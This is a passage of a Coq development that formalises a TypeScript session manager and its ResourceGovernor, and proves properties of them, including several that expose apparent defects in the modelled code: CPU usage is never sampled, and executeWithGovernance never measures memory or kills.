      injection H as <-. eexists. split.
      + unfold destroyed. cbn [heap]. apply lookup_insert_eq.
      + reflexivity. }
  destruct Hd as (o1 & Ho1 & Hs).
  rewrite (destroySession_run env m s st1 o1 Ho1).
  rewrite bool_decide_eq_true_2 by exact Hs.
  eexists. split; [reflexivity|]. repeat split.
- exfalso. revert H. unfold destroySession, bind, entered, read.
  cbn [heap with_trace]. rewrite Ho. discriminate.
Qed.

End WithEnv.

End LifecycleFacts.

Module LifecycleFactsExamples.
Import JS Lifecycle LifecycleExamples LifecycleFacts.

(** A world where the output directory cannot be created. *)
Definition no_output_env : Env :=
{| uuidv4 := uuidv4 quiet_env;
   Date_now := Date_now quiet_env;
   mkdir_error := fun p =>
     if bool_decide (last p = Some (js "output"))
     then Some (js "Error: EACCES: permission denied, mkdir")
     else None;
   writeFile_error := writeFile_error quiet_env;
   rm_result := rm_result quiet_env;
   readdir_error := readdir_error quiet_env;
   execSync := execSync quiet_env;
   import_error := None |}.


(** A world where the command exits with status 2. *)
Definition exit2_env : Env :=
{| uuidv4 := uuidv4 quiet_env;
   Date_now := Date_now quiet_env;
   mkdir_error := mkdir_error quiet_env;
   writeFile_error := writeFile_error quiet_env;
   rm_result := rm_result quiet_env;
   readdir_error := readdir_error quiet_env;
   execSync := fun _ _ f =>
     (ExecThrows (Some 2%Z) (Some []) (Some (js "boom")) (js "Command failed"), f);
   import_error := None |}.




Lemma createSession_postcondition_witness :
  exists o,
    heap demo_state !! 0 = Some o /\
    state o = PREPARING /\ job_id o = js "job-1" /\ error o = None /\
    session_id o = js "0f8fad5b" /\
    work_dir o = next_work_dir quiet_env demo_manager no_options
                   (snd (initialize quiet_env demo_manager empty_state)) /\
    output_dir o = next_output_dir quiet_env demo_manager no_options
                     (snd (initialize quiet_env demo_manager empty_state)) /\
    active_sessions demo_state !! session_id o = Some 0 /\
    files demo_state !! work_dir o = Some Dir /\
    files demo_state !! output_dir o = Some Dir.
Proof.
apply (createSession_postcondition quiet_env demo_manager (js "job-1")
         no_options (snd (initialize quiet_env demo_manager empty_state))
         demo_state 0).
vm_compute. reflexivity.
Defined.

Lemma createSession_output_mkdir_fails_witness :
  exists st',
    createSession no_output_env demo_manager (js "job-1") no_options empty_state
      = (Throw (js "Error: EACCES: permission denied, mkdir"), st') /\
    files st' !! next_work_dir no_output_env demo_manager no_options empty_state
      = Some Dir /\
    active_sessions st' = active_sessions empty_state.
Proof.
apply (createSession_output_mkdir_fails no_output_env demo_manager (js "job-1")
         no_options empty_state).
- vm_compute. reflexivity.
- vm_compute. reflexivity.
- vm_compute. reflexivity.
Defined.



Lemma executeCommand_exit_code_witness :
  exists res st',
    executeCommand exit2_env demo_manager 0 (js "false") demo_state
      = (Ok res, st') /\
    (exit_code res = 0%Z <->
     exists out, fst (execSync exit2_env (js "false") (work_dir demo_session)
                        (files demo_state)) = ExecReturns out) /\
    heap st' !! 0 =
      Some (set_started_at (set_state demo_session EXECUTING)
              (Date_now exit2_env (clock_reads demo_state))) /\
    files st' = snd (execSync exit2_env (js "false") (work_dir demo_session)
                       (files demo_state)).
Proof.
apply (executeCommand_exit_code exit2_env demo_manager 0 (js "false")
         demo_state demo_session).
- vm_compute. reflexivity.
- reflexivity.
- reflexivity.
Defined.


Lemma destroySession_second_call_is_noop_witness :
  exists st2,
    destroySession eacces_env demo_manager 0
      (snd (destroySession eacces_env demo_manager 0 demo_state)) = (Ok tt, st2) /\
    files st2 = files (snd (destroySession eacces_env demo_manager 0 demo_state)) /\
    heap st2 = heap (snd (destroySession eacces_env demo_manager 0 demo_state)) /\
    active_sessions st2 =
      active_sessions (snd (destroySession eacces_env demo_manager 0 demo_state)).
Proof.
apply (destroySession_second_call_is_noop eacces_env demo_manager 0 demo_state).
vm_compute. reflexivity.
Defined.

End LifecycleFactsExamples.

(* ===================================================================== *)
(** ** The other methods of ResourceGovernor (src/governance/resource.ts) *)
(* ===================================================================== *)

Module GovernorOps.
Import JS Governor.

#[local] Arguments limits {number}.
#[local] Arguments start_time {number}.
#[local] Arguments memory_samples {number}.
#[local] Arguments cpu_samples {number}.
#[local] Arguments output_bytes {number}.
#[local] Arguments gov_limits {number}.
#[local] Arguments process_group_id {number}.
#[local] Arguments abort_controller {number}.
#[local] Arguments monitoring_interval {number}.
#[local] Arguments with_state {number}.
#[local] Arguments memory_mb {number}.
#[local] Arguments timeout_ms {number}.
#[local] Arguments max_output_bytes {number}.
#[local] Arguments cpu {number}.
#[local] Arguments kill_reason_text {number}.
#[local] Arguments stopMonitoring {number}.

Section WithNumbers.

(** JavaScript numbers and the operations the governor applies to them. *)
Variable number : Type.
Variable number_to_string : number -> jsstring.
Variable zero : number.
Variable add sub div : number -> number -> number.
Variable gtb : number -> number -> bool.             (* a > b *)
Variable of_nat : nat -> number.                     (* an array length *)
Variable parse_rss_mb : jsstring -> number.          (* parseInt(s, 10) / 1024 *)
Variable max_of : list number -> number.             (* Math.max(...xs) *)
Variable of_Z : Z -> number.                         (* an integer literal *)

Definition set_memory_samples (g : ResourceGovernor number) (xs : list number)
  : ResourceGovernor number :=
let st := state g in
with_state g
  {| is_governed := is_governed st; limits := limits st;
     start_time := start_time st; memory_samples := xs;
     cpu_samples := cpu_samples st; output_bytes := output_bytes st;
     killed := killed st; kill_reason := kill_reason st |}.

Definition set_output_bytes (g : ResourceGovernor number) (b : number)
  : ResourceGovernor number :=
let st := state g in
with_state g
  {| is_governed := is_governed st; limits := limits st;
     start_time := start_time st; memory_samples := memory_samples st;
     cpu_samples := cpu_samples st; output_bytes := b;
     killed := killed st; kill_reason := kill_reason st |}.

(** [checkMemory()]; [ps] is what [execSync(`ps -o rss= -g ...`)] gives:
    its output, or nothing when it throws. *)
Definition checkMemory (ps : option jsstring) (g : ResourceGovernor number)
  : ResourceGovernor number * list effect :=
if negb (pgid_truthy (process_group_id g)) then (g, [])
else
  match ps with
  | Some out =>
      let memory_mb_now := parse_rss_mb (trim out) in
      let g1 := set_memory_samples g (memory_samples (state g) ++ [memory_mb_now]) in
      if gtb memory_mb_now (memory_mb (gov_limits g1))
      then killProcess number_to_string (js "memory_limit_exceeded")
             (Some memory_mb_now) g1
      else (g1, [])
  | None => (g, [])
  end.

(** [checkTimeout()] when [Date.now()] gives [now]. *)
Definition checkTimeout (now : number) (g : ResourceGovernor number)
  : ResourceGovernor number * list effect :=
let elapsed_ms := sub now (start_time (state g)) in
if gtb elapsed_ms (timeout_ms (gov_limits g))
then killProcess number_to_string (js "timeout") (Some elapsed_ms) g
else (g, []).

(** [checkResources()], the body of the monitoring interval. *)
Definition checkResources (ps : option jsstring) (now : number)
  (g : ResourceGovernor number) : ResourceGovernor number * list effect :=
if killed (state g) || negb (pgid_truthy (process_group_id g)) then (g, [])
else
  let '(g1, e1) := checkMemory ps g in
  let '(g2, e2) := checkTimeout now g1 in
  (g2, e1 ++ e2).

Definition trackOutput (bytes : number) (g : ResourceGovernor number)
  : ResourceGovernor number * list effect :=
let g1 := set_output_bytes g (add (output_bytes (state g)) bytes) in
if gtb (output_bytes (state g1)) (max_output_bytes (gov_limits g1))
then killProcess number_to_string (js "output_limit_exceeded")
       (Some (output_bytes (state g1))) g1
else (g1, []).

Definition getPeakMemoryMB (g : ResourceGovernor number) : number :=
match memory_samples (state g) with
| [] => zero
| xs => max_of xs
end.

Definition getCPUUsage (g : ResourceGovernor number) : number :=
match cpu_samples (state g) with
| [] => zero
| xs => div (fold_left add xs zero) (of_nat (length xs))
end.

(** *** Sequences of calls on one governor *)

(** A call of a public method, or a firing of the monitoring interval:
    either in one piece, or as its two awaited halves ([checkMemory], then
    [checkTimeout]), between which other calls may come. *)
Inductive op : Type :=
| Start (pgid : Z) (now : number)
| Tick (ps : option jsstring) (now : number)
| Memory (ps : option jsstring)
| Timeout (now : number)
| Track (bytes : number)
| Kill (reason : jsstring) (value : option number)
| Stop.

Definition step (o : op) (g : ResourceGovernor number)
  : ResourceGovernor number * list effect :=
match o with
| Start pgid now => startGovernance pgid now g
| Tick ps now => checkResources ps now g
| Memory ps => checkMemory ps g
| Timeout now => checkTimeout now g
| Track bytes => trackOutput bytes g
| Kill reason value => killProcess number_to_string reason value g
| Stop => stop g
end.

Fixpoint run (ops : list op) (g : ResourceGovernor number)
  : ResourceGovernor number * list effect :=
match ops with
| [] => (g, [])
| o :: rest =>
    let '(g1, e1) := step o g in
    let '(g2, e2) := run rest g1 in
    (g2, e1 ++ e2)
end.

(** The calls that leave a governance period as it is. *)
Definition within_period (o : op) : bool :=
match o with
| Start _ _ | Stop => false
| _ => true
end.

Definition tracked (ops : list op) : list number :=
flat_map (fun o => match o with Track b => [b] | _ => [] end) ops.

Definition is_kill_signal (e : effect) : bool :=
match e with
| KillGroup _ => true
| _ => false
end.

(** *** executeWithGovernance *)

Record PartialLimits : Type := {
  p_cpu : option number;
  p_memory_mb : option number;
  p_timeout_ms : option number;
  p_max_output_bytes : option number
}.

(** [x ?? d] *)
Definition nullish {A} (x : option A) (d : A) : A :=
match x with Some v => v | None => d end.

(** The constructor of ResourceGovernor, with its defaults. *)
Definition createGovernor (l : PartialLimits) : ResourceGovernor number :=
new_governor zero
  {| cpu := nullish (p_cpu l) (of_Z 2);
     memory_mb := nullish (p_memory_mb l) (of_Z 2048);
     timeout_ms := nullish (p_timeout_ms l) (of_Z 300000);
     max_output_bytes := nullish (p_max_output_bytes l) (of_Z (10 * 1024 * 1024)) |}.

Record ExecutionResult : Type := {
  exit_code : number;
  signal : option jsstring;
  stdout : jsstring;
  stderr : jsstring;
  duration_ms : number;
  memory_peak_mb : number
}.

(** What [spawnSync("bash", ["-c", command], ...)] does. *)
Inductive spawn_outcome : Type :=
| SpawnReturns (status : option number) (sig : option jsstring)
    (out err : option jsstring)
| SpawnThrows (message : jsstring).

(** [executeWithGovernance(command, cwd, limits)] in a process with id
    [pid]: the result it resolves to, or the error of the dynamic import
    it rejects with, and what the governor did.  [clock] gives the
    successive readings of [Date.now()]; [spawnSync] blocks, so that
    nothing runs between [startGovernance] and [stop]. *)
Definition executeWithGovernance
  (import_error : option jsstring) (pid : Z) (clock : nat -> number)
  (spawnSync : jsstring -> jsstring -> PartialLimits -> spawn_outcome)
  (command cwd : jsstring) (l : PartialLimits)
  : (jsstring + ExecutionResult) * list effect :=
let governor := createGovernor l in
let start := clock 0 in
match import_error with
| Some e => (inl e, [])
| None =>
    let '(g1, e1) := startGovernance pid (clock 1) governor in
    match spawnSync command cwd l with
    | SpawnReturns status sig out err =>
        let '(g2, e2) := stop g1 in
        (inr {| exit_code := nullish status (of_Z (-1));
                signal := sig;
                stdout := nullish out [];
                stderr := nullish err [];
                duration_ms := sub (clock 2) start;
                memory_peak_mb := getPeakMemoryMB g2 |}, e1 ++ e2)
    | SpawnThrows message =>
        let '(g2, e2) := stop g1 in
        (inr {| exit_code := of_Z (-1);
                signal := None;
                stdout := [];
                stderr := message;
                duration_ms := sub (clock 2) start;
                memory_peak_mb := getPeakMemoryMB g2 |}, e1 ++ e2)
    end
end.

(** *** What a call may do to a governor *)

(** [f] after [f1]. *)
Definition and_then
  (f1 f2 : ResourceGovernor number -> ResourceGovernor number * list effect)
  (g : ResourceGovernor number) : ResourceGovernor number * list effect :=
let '(g1, e1) := f1 g in
let '(g2, e2) := f2 g1 in
(g2, e1 ++ e2).

(** On a killed governor [f] does nothing outside and keeps the verdict;
    on a live one it either does nothing outside and leaves it live, or
    kills it, signalling the process group at most once. *)
Definition disciplined
  (f : ResourceGovernor number -> ResourceGovernor number * list effect) : Prop :=
forall g,
  (killed (state g) = true ->
   snd (f g) = [] /\ killed (state (fst (f g))) = true /\
   kill_reason (state (fst (f g))) = kill_reason (state g)) /\
  (killed (state g) = false ->
   (snd (f g) = [] /\ killed (state (fst (f g))) = false) \/
   (killed (state (fst (f g))) = true /\
    length (List.filter is_kill_signal (snd (f g))) <= 1)).

(** The verdict of one firing of the interval on a live governor. *)
Definition timeout_verdict (now : number) (g : ResourceGovernor number)
  : option jsstring :=
let elapsed_ms := sub now (start_time (state g)) in
if gtb elapsed_ms (timeout_ms (gov_limits g))
then Some (kill_reason_text number_to_string (js "timeout") (Some elapsed_ms))
else kill_reason (state g).

Definition tick_verdict (ps : option jsstring) (now : number)
  (g : ResourceGovernor number) : option jsstring :=
match ps with
| Some out =>
    if gtb (parse_rss_mb (trim out)) (memory_mb (gov_limits g))
    then Some (kill_reason_text number_to_string (js "memory_limit_exceeded")
                 (Some (parse_rss_mb (trim out))))
    else timeout_verdict now g
| None => timeout_verdict now g
end.

(** *** Lemmas *)

Lemma killProcess_fields reason value g :
  let g' := fst (killProcess number_to_string reason value g) in
  cpu_samples (state g') = cpu_samples (state g) /\
  memory_samples (state g') = memory_samples (state g) /\
  output_bytes (state g') = output_bytes (state g) /\
  start_time (state g') = start_time (state g) /\
  gov_limits g' = gov_limits g /\
  process_group_id g' = process_group_id g.
Proof.
unfold killProcess, stopMonitoring, with_state.
destruct (killed (state g)); [repeat split|].
destruct (monitoring_interval g); cbn;
  destruct (abort_controller g); cbn; repeat split.
Qed.

Lemma killProcess_signals reason value g :
  length (List.filter is_kill_signal
            (snd (killProcess number_to_string reason value g))) <= 1.
Proof.
unfold killProcess, stopMonitoring, with_state.
destruct (killed (state g)); [cbn; lia|].
destruct (monitoring_interval g); cbn;
  destruct (process_group_id g) as [n|]; cbn;
  try destruct (negb (n =? 0)%Z); cbn;
  destruct (abort_controller g); cbn; lia.
Qed.

Lemma stop_fields (g : ResourceGovernor number) :
  let g' := fst (stop g) in
  cpu_samples (state g') = cpu_samples (state g) /\
  memory_samples (state g') = memory_samples (state g) /\
  output_bytes (state g') = output_bytes (state g).
Proof.
unfold stop, stopMonitoring, with_state.
destruct (monitoring_interval g); cbn; repeat split.
Qed.

Lemma checkMemory_fields ps g :
  let g' := fst (checkMemory ps g) in
  cpu_samples (state g') = cpu_samples (state g) /\
  output_bytes (state g') = output_bytes (state g) /\
  start_time (state g') = start_time (state g) /\
  gov_limits g' = gov_limits g /\
  exists more, memory_samples (state g') = memory_samples (state g) ++ more.
Proof.
unfold checkMemory.
destruct (negb (pgid_truthy (process_group_id g)));
  [repeat split; exists []; symmetry; apply app_nil_r|].
destruct ps as [out|]; [|repeat split; exists []; symmetry; apply app_nil_r].
set (g1 := set_memory_samples g _).
destruct (gtb _ _).
- destruct (killProcess_fields (js "memory_limit_exceeded")
              (Some (parse_rss_mb (trim out))) g1) as (C & Mm & O & S & L & _).
  cbn zeta in *. rewrite C, Mm, O, S, L. repeat split. eexists. reflexivity.
- repeat split. eexists. reflexivity.
Qed.

Lemma checkTimeout_fields now g :
  let g' := fst (checkTimeout now g) in
  cpu_samples (state g') = cpu_samples (state g) /\
  memory_samples (state g') = memory_samples (state g) /\
  output_bytes (state g') = output_bytes (state g).
Proof.
unfold checkTimeout. destruct (gtb _ _); [|repeat split].
destruct (killProcess_fields (js "timeout")
            (Some (sub now (start_time (state g)))) g) as (C & Mm & O & _).
repeat split; assumption.
Qed.

Lemma checkResources_fields ps now g :
  let g' := fst (checkResources ps now g) in
  cpu_samples (state g') = cpu_samples (state g) /\
  output_bytes (state g') = output_bytes (state g) /\
  exists more, memory_samples (state g') = memory_samples (state g) ++ more.
Proof.
unfold checkResources.
destruct (killed (state g) || negb (pgid_truthy (process_group_id g)));
  [repeat split; exists []; symmetry; apply app_nil_r|].
pose proof (checkMemory_fields ps g) as (C1 & O1 & _ & _ & more & M1).
destruct (checkMemory ps g) as [g1 e1]. cbn [fst] in *.
pose proof (checkTimeout_fields now g1) as (C2 & M2 & O2).
destruct (checkTimeout now g1) as [g2 e2]. cbn [fst] in *.
rewrite C2, O2, M2, C1, O1, M1. repeat split. exists more. reflexivity.
Qed.

Lemma trackOutput_fields bytes g :
  let g' := fst (trackOutput bytes g) in
  cpu_samples (state g') = cpu_samples (state g) /\
  memory_samples (state g') = memory_samples (state g) /\
  output_bytes (state g') = add (output_bytes (state g)) bytes.
Proof.
unfold trackOutput. set (g1 := set_output_bytes g _).
destruct (gtb _ _); [|repeat split].
destruct (killProcess_fields (js "output_limit_exceeded")
            (Some (output_bytes (state g1))) g1) as (C & Mm & O & _).
cbn zeta in *. rewrite C, Mm, O. repeat split.
Qed.

Lemma step_fields o g :
  let g' := fst (step o g) in
  cpu_samples (state g') = cpu_samples (state g) /\
  output_bytes (state g') =
    fold_left add (tracked [o]) (output_bytes (state g)) /\
  exists more, memory_samples (state g') = memory_samples (state g) ++ more.
Proof.
destruct o as [pgid now|ps now|ps|now|bytes|reason value|];
  cbn [step tracked flat_map app fold_left].
- repeat split. exists []. symmetry. apply app_nil_r.
- apply checkResources_fields.
- destruct (checkMemory_fields ps g) as (C & O & _ & _ & more & Mm). cbn zeta.
  rewrite C, O. repeat split. exists more. exact Mm.
- destruct (checkTimeout_fields now g) as (C & Mm & O). cbn zeta.
  rewrite C, Mm, O. repeat split. exists []. symmetry. apply app_nil_r.
- destruct (trackOutput_fields bytes g) as (C & Mm & O). cbn zeta.
  rewrite C, Mm, O. repeat split. exists []. symmetry. apply app_nil_r.
- destruct (killProcess_fields reason value g) as (C & Mm & O & _). cbn zeta.
  rewrite C, Mm, O. repeat split. exists []. symmetry. apply app_nil_r.
- destruct (stop_fields g) as (C & Mm & O). cbn zeta.
  rewrite C, Mm, O. repeat split. exists []. symmetry. apply app_nil_r.
Qed.

Lemma tracked_cons o ops : tracked (o :: ops) = tracked [o] ++ tracked ops.
Proof. unfold tracked. cbn [flat_map]. rewrite app_nil_r. reflexivity. Qed.

Lemma run_fields ops : forall g,
  let g' := fst (run ops g) in
  cpu_samples (state g') = cpu_samples (state g) /\
  output_bytes (state g') =
    fold_left add (tracked ops) (output_bytes (state g)) /\
  exists more, memory_samples (state g') = memory_samples (state g) ++ more.
Proof.
induction ops as [|o ops IH]; intros g.
- repeat split. exists []. symmetry. apply app_nil_r.
- cbn [run]. pose proof (step_fields o g) as (C1 & O1 & m1 & M1).
  destruct (step o g) as [g1 e1]. cbn [fst] in *.
  pose proof (IH g1) as (C2 & O2 & m2 & M2).
  destruct (run ops g1) as [g2 e2]. cbn [fst] in *.
  split; [congruence|]. split.
  + rewrite (tracked_cons o ops), fold_left_app, O2, O1. reflexivity.
  + exists (m1 ++ m2). rewrite M2, M1, <- app_assoc. reflexivity.
Qed.

Lemma disciplined_nothing : disciplined (fun g => (g, [])).
Proof.
intros g. split; intros H; cbn [fst snd].
- repeat split. assumption.
- left. split; [reflexivity | assumption].
Qed.

Lemma disciplined_and_then f1 f2 :
  disciplined f1 -> disciplined f2 -> disciplined (and_then f1 f2).
Proof.
intros D1 D2 g. unfold and_then.
destruct (D1 g) as [K1 L1].
destruct (f1 g) as [g1 e1] eqn:E1. cbn [fst snd] in *.
destruct (D2 g1) as [K2 L2].
destruct (f2 g1) as [g2 e2] eqn:E2. cbn [fst snd] in *.
split; intros H.
- destruct (K1 H) as (-> & Hk & Hr). destruct (K2 Hk) as (-> & Hk2 & Hr2).
  repeat split; [assumption | congruence].
- destruct (L1 H) as [(-> & Hl)|(Hk & Hc)].
  + destruct (L2 Hl) as [(-> & Hl2)|(Hk2 & Hc2)].
    * left. split; [reflexivity | assumption].
    * right. split; [assumption | exact Hc2].
  + destruct (K2 Hk) as (-> & Hk2 & _). right. split; [assumption|].
    rewrite app_nil_r. exact Hc.
Qed.

Lemma disciplined_killProcess reason value :
  disciplined (killProcess number_to_string reason value).
Proof.
intros g. split; intros H.
- rewrite killProcess_noop by assumption. repeat split. assumption.
- right. split; [apply killProcess_killed | apply killProcess_signals].
Qed.

Lemma disciplined_checkTimeout now : disciplined (checkTimeout now).
Proof.
intros g. unfold checkTimeout. destruct (gtb _ _).
- apply disciplined_killProcess.
- apply disciplined_nothing.
Qed.

Lemma disciplined_checkMemory ps : disciplined (checkMemory ps).
Proof.
intros g. unfold checkMemory.
destruct (negb (pgid_truthy (process_group_id g)));
  [apply disciplined_nothing|].
destruct ps as [out|]; [|apply disciplined_nothing].
set (g1 := set_memory_samples g _).
destruct (gtb _ _).
- apply (disciplined_killProcess _ _ g1).
- apply (disciplined_nothing g1).
Qed.

Lemma disciplined_trackOutput bytes : disciplined (trackOutput bytes).
Proof.
intros g. unfold trackOutput. set (g1 := set_output_bytes g _).
destruct (gtb _ _).
- apply (disciplined_killProcess _ _ g1).
- apply (disciplined_nothing g1).
Qed.

Lemma disciplined_checkResources ps now : disciplined (checkResources ps now).
Proof.
intros g. unfold checkResources.
destruct (killed (state g) || negb (pgid_truthy (process_group_id g)));
  [apply disciplined_nothing|].
apply (disciplined_and_then (checkMemory ps) (checkTimeout now)
         (disciplined_checkMemory ps) (disciplined_checkTimeout now) g).
Qed.

Lemma disciplined_step o : within_period o = true -> disciplined (step o).
Proof.
destruct o; intros H; try discriminate; cbn [step].
- apply disciplined_checkResources.
- apply disciplined_checkMemory.
- apply disciplined_checkTimeout.
- apply disciplined_trackOutput.
- apply disciplined_killProcess.
Qed.

Lemma disciplined_run ops :
  forallb within_period ops = true -> disciplined (run ops).
Proof.
induction ops as [|o ops IH]; intros H.
- apply disciplined_nothing.
- cbn [forallb] in H. apply andb_true_iff in H as [Ho Hops].
  apply (disciplined_and_then (step o) (run ops)
           (disciplined_step o Ho) (IH Hops)).
Qed.

Lemma checkTimeout_killed now g :
  killed (state g) = true -> checkTimeout now g = (g, []).
Proof.
intros H. unfold checkTimeout. destruct (gtb _ _); [|reflexivity].
apply killProcess_noop. assumption.
Qed.

Lemma checkTimeout_live now g :
  killed (state g) = false ->
  kill_reason (state (fst (checkTimeout now g))) = timeout_verdict now g.
Proof.
intros H. unfold checkTimeout, timeout_verdict. destruct (gtb _ _).
- rewrite killProcess_state by assumption. reflexivity.
- reflexivity.
Qed.

(** *** Theorems *)

(** X18. CPU usage is never sampled: whatever is called on a governor, in any
    order, [getCPUUsage()] is 0. *)
Theorem getCPUUsage_always_zero (l : ResourceLimits number) (ops : list op) :
  getCPUUsage (fst (run ops (new_governor zero l))) = zero.
Proof.
unfold getCPUUsage.
destruct (run_fields ops (new_governor zero l)) as (C & _).
cbn zeta in C. rewrite C. reflexivity.
Qed.

(** X16. The output count belongs to the governor, not to a run: after any
    calls it is the sum of all the byte counts tracked so far; neither
    [stop], [startGovernance] nor a kill resets it. *)
Theorem output_bytes_is_running_total
  (g : ResourceGovernor number) (ops : list op) :
  output_bytes (state (fst (run ops g))) =
  fold_left add (tracked ops) (output_bytes (state g)).
Proof. apply (run_fields ops g). Qed.

(** X17. Memory samples are only ever appended: the samples of a governor stay
    in front of whatever later calls record, also across [stop] and
    [startGovernance]. *)
Theorem memory_samples_only_grow
  (g : ResourceGovernor number) (ops : list op) :
  exists more,
    memory_samples (state (fst (run ops g))) = memory_samples (state g) ++ more.
Proof. apply (run_fields ops g). Qed.

(** X14. Once killed, and until [stop] or [startGovernance], a governor does
    nothing more outside, whatever is called and whenever the interval
    fires, and keeps its kill reason. *)
Theorem killed_governor_stays_quiet
  (g : ResourceGovernor number) (ops : list op) :
  killed (state g) = true ->
  forallb within_period ops = true ->
  snd (run ops g) = [] /\
  killed (state (fst (run ops g))) = true /\
  kill_reason (state (fst (run ops g))) = kill_reason (state g).
Proof.
intros Hk Hops. apply (proj1 (disciplined_run ops Hops g) Hk).
Qed.

(** X13. Between [startGovernance] and [stop], the process group is sent the
    kill signal at most once. *)
Theorem kill_signal_at_most_once
  (g : ResourceGovernor number) (ops : list op) :
  forallb within_period ops = true ->
  length (List.filter is_kill_signal (snd (run ops g))) <= 1.
Proof.
intros Hops. destruct (disciplined_run ops Hops g) as [K L].
destruct (killed (state g)) eqn:Hk.
- destruct (K eq_refl) as (-> & _). cbn. lia.
- destruct (L eq_refl) as [(-> & _)|(_ & Hc)]; [cbn; lia | exact Hc].
Qed.

(** X15. One firing of the interval on a live governor of a process group
    decides the kill reason as follows: memory over the limit wins; when
    memory is within the limit or [ps] failed, the timeout is still
    checked. *)
Theorem checkResources_verdict
  (ps : option jsstring) (now : number) (g : ResourceGovernor number) :
  killed (state g) = false ->
  pgid_truthy (process_group_id g) = true ->
  kill_reason (state (fst (checkResources ps now g))) = tick_verdict ps now g.
Proof.
intros Hk Hp. unfold checkResources, checkMemory, tick_verdict.
rewrite Hk, Hp. cbn [orb negb].
destruct ps as [out|].
- set (g1 := set_memory_samples g _).
  change (gov_limits g1) with (gov_limits g).
  assert (Hk1 : killed (state g1) = false) by exact Hk.
  destruct (gtb (parse_rss_mb (trim out)) (memory_mb (gov_limits g))) eqn:Em.
  + pose proof (killProcess_killed number number_to_string
                  (js "memory_limit_exceeded")
                  (Some (parse_rss_mb (trim out))) g1) as Hk2.
    pose proof (killProcess_state number number_to_string
                  (js "memory_limit_exceeded")
                  (Some (parse_rss_mb (trim out))) g1 Hk1) as Hs2.
    destruct (killProcess number_to_string (js "memory_limit_exceeded")
                (Some (parse_rss_mb (trim out))) g1) as [g2 e2].
    cbn [fst] in Hk2, Hs2.
    rewrite (checkTimeout_killed now g2 Hk2). cbn [fst]. rewrite Hs2.
    reflexivity.
  + pose proof (checkTimeout_live now g1 Hk1) as Hv.
    destruct (checkTimeout now g1) as [g2 e2]. cbn [fst] in *.
    exact Hv.
- pose proof (checkTimeout_live now g Hk) as Hv.
  destruct (checkTimeout now g) as [g2 e2]. cbn [fst] in *.
  exact Hv.
Qed.

(** X19. [stop()] forgets neither the process group nor the abort controller:
    a [killProcess] after [startGovernance(pgid)] and [stop()] still sends
    the kill signal to that group and aborts. *)
Theorem killProcess_after_stop_still_signals
  (g : ResourceGovernor number) (pgid : Z) (now : number)
  (reason : jsstring) (value : option number) :
  pgid <> 0%Z ->
  snd (killProcess number_to_string reason value
         (fst (stop (fst (startGovernance pgid now g)))))
  = [KillGroup pgid; AbortSignalled].
Proof.
intros Hp. unfold killProcess, stop, startGovernance, stopMonitoring, with_state.
cbn. apply Z.eqb_neq in Hp. rewrite Hp. reflexivity.
Qed.

(** X20. [executeWithGovernance] never measures memory and never kills: once
    the import has succeeded it resolves, whatever [spawnSync] does, with
    [memory_peak_mb] 0, the governor having only set and cleared its
    interval; a [spawnSync] that throws gives exit code -1 and the
    message as stderr. *)
Theorem executeWithGovernance_reports_no_memory
  (pid : Z) (clock : nat -> number)
  (spawnSync : jsstring -> jsstring -> PartialLimits -> spawn_outcome)
  (command cwd : jsstring) (l : PartialLimits) :
  exists r,
    executeWithGovernance None pid clock spawnSync command cwd l
      = (inr r, [SetInterval; ClearInterval]) /\
    memory_peak_mb r = zero /\
    duration_ms r = sub (clock 2) (clock 0) /\
    (forall message, spawnSync command cwd l = SpawnThrows message ->
       exit_code r = of_Z (-1) /\ stderr r = message /\ stdout r = []).
Proof.
unfold executeWithGovernance.
destruct (spawnSync command cwd l) as [status sig out err|message];
  eexists; (split; [reflexivity|]); cbn;
  (split; [reflexivity|]); (split; [reflexivity|]); intros m E.
- discriminate.
- injection E as <-. repeat split.
Qed.

End WithNumbers.

End GovernorOps.

Module GovernorOpsExamples.
Import JS Governor GovernorExamples GovernorOps.

(** Numbers as integers: [parseInt(s, 10) / 1024] on a resident set size
    that is a whole number of megabytes. *)
Definition rss_mb (s : jsstring) : Z := (SshExecutor.parseInt s / 1024)%Z.

Definition run_Z : list (op Z) -> ResourceGovernor Z -> ResourceGovernor Z * list effect :=
run Z show_Z Z.add Z.sub Z.gtb rss_mb.

(** The test governor after [killProcess("test_kill", 42)]. *)
Definition killed_governor : ResourceGovernor Z :=
fst (killProcess show_Z (js "test_kill") (Some 42%Z) test_governor).

(** Two megabytes of output, a firing of the interval that sees 4 GB in
    use ten seconds after the start, then a second firing with a call of
    [killProcess] between its halves, and more output. *)
Definition busy_calls : list (op Z) :=
[Track Z 2000000%Z;
 Tick Z (Some (js " 4194304 ")) 1700000010000%Z;
 Memory Z (Some (js " 4194304 "));
 Kill Z (js "manual") None;
 Timeout Z 1700000010100%Z;
 Track Z 5%Z].

Example busy_calls_on_test_governor :
  snd (run_Z busy_calls test_governor)
    = [ClearInterval; KillGroup 4242%Z; AbortSignalled] /\
  kill_reason (state (fst (run_Z busy_calls test_governor)))
    = Some (js "output_limit_exceeded: 2000000") /\
  GovernorOps.getPeakMemoryMB Z 0%Z (fun xs => fold_right Z.max 0%Z xs)
    (fst (run_Z busy_calls test_governor)) = 4096%Z.
Proof. vm_compute. repeat split; reflexivity. Qed.

Lemma killed_governor_stays_quiet_witness :
  snd (run_Z busy_calls killed_governor) = [] /\
  killed (state (fst (run_Z busy_calls killed_governor))) = true /\
  kill_reason (state (fst (run_Z busy_calls killed_governor)))
    = kill_reason (state killed_governor).
Proof.
apply (killed_governor_stays_quiet Z show_Z Z.add Z.sub Z.gtb rss_mb
         killed_governor busy_calls).
- vm_compute. reflexivity.
- reflexivity.
Defined.

Lemma kill_signal_at_most_once_witness :
  length (List.filter is_kill_signal (snd (run_Z busy_calls test_governor))) <= 1.
Proof.
apply (kill_signal_at_most_once Z show_Z Z.add Z.sub Z.gtb rss_mb
         test_governor busy_calls).
reflexivity.
Defined.

Lemma checkResources_verdict_witness :
  kill_reason
    (state (fst (checkResources Z show_Z Z.sub Z.gtb rss_mb None
                   1700000006000%Z test_governor)))
  = Some (js "timeout: 6000").
Proof.
exact (eq_trans
         (checkResources_verdict Z show_Z Z.sub Z.gtb rss_mb None
            1700000006000%Z test_governor eq_refl eq_refl)
         eq_refl).
Defined.

Lemma killProcess_after_stop_still_signals_witness :
  snd (killProcess show_Z (js "late") None (fst (stop test_governor)))
  = [KillGroup 4242%Z; AbortSignalled].
Proof.
apply (killProcess_after_stop_still_signals Z show_Z
         (new_governor 0%Z test_limits) 4242%Z 1700000000000%Z (js "late") None).
discriminate.
Defined.

End GovernorOpsExamples.

(* ===================================================================== *)
